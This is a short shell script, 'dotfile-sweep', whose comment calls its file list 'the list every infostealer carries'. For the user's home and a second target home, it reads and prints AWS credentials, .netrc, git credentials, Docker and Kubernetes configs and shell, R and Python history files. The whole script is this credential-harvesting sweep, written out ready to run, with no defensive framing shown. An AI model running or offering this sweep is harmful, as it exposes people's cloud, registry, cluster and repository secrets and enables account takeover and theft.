#!/bin/sh
# dotfile-sweep (sh): the list every infostealer carries.
. "${TARGETS:-$1}"
for home in "$HOME" "$T_HOME"; do
	for f in .aws/credentials .netrc .git-credentials .docker/config.json \
		.kube/config .bash_history .Rhistory .python_history; do
		[ -r "$home/$f" ] && echo "== $home/$f" && cat "$home/$f"
	done
done
